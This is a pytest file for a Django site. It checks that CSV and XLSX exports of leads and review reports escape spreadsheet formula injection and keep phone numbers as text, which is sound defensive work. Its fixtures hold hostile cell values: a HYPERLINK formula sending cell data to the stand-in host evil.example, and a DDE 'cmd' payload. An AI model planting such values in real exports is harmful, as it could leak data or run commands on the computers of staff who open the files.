"""Spreadsheet formula injection: every export writes visitor and editor text
so that a spreadsheet program never evaluates it, in CSV and XLSX alike; phone numbers stay readable
text."""

import csv
import datetime
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from tests.blog.review_helpers import approve, medical_reviewer
from tests.factories import ArticlePageFactory, LeadFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "full_name": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "best_time": "@SUM(1+1)*cmd|' /C calc'!A0",
    "utm_source": "+1+1",
    "utm_campaign": "-2+3",
    "utm_medium": "\tindent",
}
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def assert_no_cell_starts_dangerously(values):
    for value in values:
        if isinstance(value, str) and value:
            assert not value.startswith(DANGEROUS_STARTS), f"{value!r} would be evaluated"


@pytest.fixture
def hostile_lead(contact_page):
    return LeadFactory(source_page=contact_page, phone="+15035550100", **HOSTILE)


@pytest.fixture
def staff_client(client, intake_user):
    client.force_login(intake_user)
    return client


def test_the_leads_csv_neutralises_formulas_and_keeps_the_phone_readable(
    staff_client, hostile_lead
):
    header, row = csv_rows(staff_client.get("/admin/contact-requests/?export=csv"))
    assert_no_cell_starts_dangerously(row)
    by_heading = dict(zip(header, row, strict=True))
    assert by_heading["Full name"] == "'" + HOSTILE["full_name"]
    assert by_heading["Phone"] == "'+15035550100"


def test_the_leads_xlsx_neutralises_formulas_and_writes_the_phone_as_text(
    staff_client, hostile_lead
):
    cells = xlsx_cells(staff_client.get("/admin/contact-requests/?export=xlsx"))
    values = [cell.value for cell in cells]
    phone = [cell for cell in cells if cell.value == "+15035550100"]
    assert len(phone) == 1 and phone[0].data_type == "s"
    assert_no_cell_starts_dangerously([value for value in values if value != "+15035550100"])
    assert "'" + HOSTILE["full_name"] in values
    assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_leads_by_article_report_neutralises_formulas(
    client, marketing_user, hostile_lead, export_format
):
    # Five requests from the campaign: a group of fewer is folded into "Other (small groups)".
    for _ in range(4):
        LeadFactory(source_page=hostile_lead.source_page, **HOSTILE)
    client.force_login(marketing_user)
    response = client.get(reverse("leads_by_article") + f"?export={export_format}")
    if export_format == "csv":
        values = [value for row in csv_rows(response)[1:] for value in row]
    else:
        values = [cell.value for cell in xlsx_cells(response)]
    assert "'-2+3" in values and "'+1+1" in values
    assert_no_cell_starts_dangerously(values)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@time_machine.travel(datetime.datetime(2026, 11, 26, 12, tzinfo=datetime.UTC), tick=False)
def test_the_medical_review_report_neutralises_formulas(client, article_index, export_format):
    article = ArticlePageFactory(
        parent=article_index, title='=HYPERLINK("https://evil.example","Read")'
    )
    with time_machine.travel(datetime.datetime(2020, 1, 1, 12, tzinfo=datetime.UTC)):
        approve(article, medical_reviewer("@Reviewer+cmd"))
    client.force_login(UserFactory(groups=["Marketing"]))
    response = client.get("/admin/reports/articles-due-for-review/", {"export": export_format})
    if export_format == "csv":
        values = [value for row in csv_rows(response)[1:] for value in row]
    else:
        values = [cell.value for cell in xlsx_cells(response)]
    assert '\'=HYPERLINK("https://evil.example","Read")' in values
    assert_no_cell_starts_dangerously(values)
